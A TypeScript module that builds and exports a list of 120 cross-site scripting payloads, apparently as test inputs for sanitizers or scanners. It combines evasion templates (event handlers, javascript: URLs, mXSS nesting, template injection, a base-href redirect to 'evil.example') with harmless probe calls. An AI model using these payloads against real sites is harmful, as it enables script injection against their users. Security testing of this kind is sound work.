const run = ['alert(1)', 'window.xss=1', 'top.xss=1', "fetch('/xss-beacon')"];
const shapes = [
  '<script>%s</script>', '<img src=x onerror=%s>', '<svg onload=%s>', '<svg/onload=%s>', '"><script>%s</script>', `'><img src=x onerror=%s>`, '</title><script>%s</script>',
  '</textarea><img src=x onerror=%s>', '<body onload=%s>', '<iframe srcdoc="<script>%s</script>">', '<a href="javascript:%s">x</a>', '<details open ontoggle=%s>', '<input autofocus onfocus=%s>',
  '" onmouseover="%s" x="', `' autofocus onfocus='%s' x='`, '<math><mtext></form><form><mglyph><style></math><img src onerror=%s>', '<video><source onerror=%s>', '<object data="javascript:%s">',
  'javascript:%s', '<form action="javascript:%s"><button>x</button></form>', '<template><script>%s</script></template>', '{{constructor.constructor("%s")()}}', '<base href="//evil.example/"><script>%s</script>',
  '<meta http-equiv=refresh content="0;url=javascript:%s">', '<style>@import "javascript:%s"</style>', '<bdi onclick=%s autofocus tabindex=1>x</bdi>', '\u200f<img src=x onerror=%s>', '&lt;img src=x onerror=%s&gt;<img src=x onerror=%s>',
  '<!--><img src=x onerror=%s>-->', ']]><script>%s</script>',
];

/** A hundred and twenty texts that would run as script on a page that let them. */
export const xssPayloads: readonly string[] = shapes.flatMap((shape) => run.map((call) => shape.replaceAll('%s', call)));
